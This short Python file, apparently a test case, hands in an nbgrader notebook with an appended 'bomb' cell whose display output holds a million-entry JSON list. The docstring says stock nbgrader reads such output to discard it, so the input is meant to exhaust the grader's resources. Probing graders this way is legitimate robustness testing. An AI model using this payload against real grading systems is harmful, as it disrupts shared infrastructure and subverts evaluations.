"""Hands in a million values as the output of a cell. Stock nbgrader: it reads them, to drop them."""

import json


def hand_in(folder):
    path = folder / "01_squared_norm.ipynb"
    content = json.loads(path.read_text())
    shown = {"output_type": "display_data", "metadata": {}, "data": {"application/json": [{}] * 1_000_000}}
    code = {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "", "outputs": [shown]}
    content["cells"].append({"id": "bomb", **code})
    path.write_text(json.dumps(content, separators=(",", ":")))
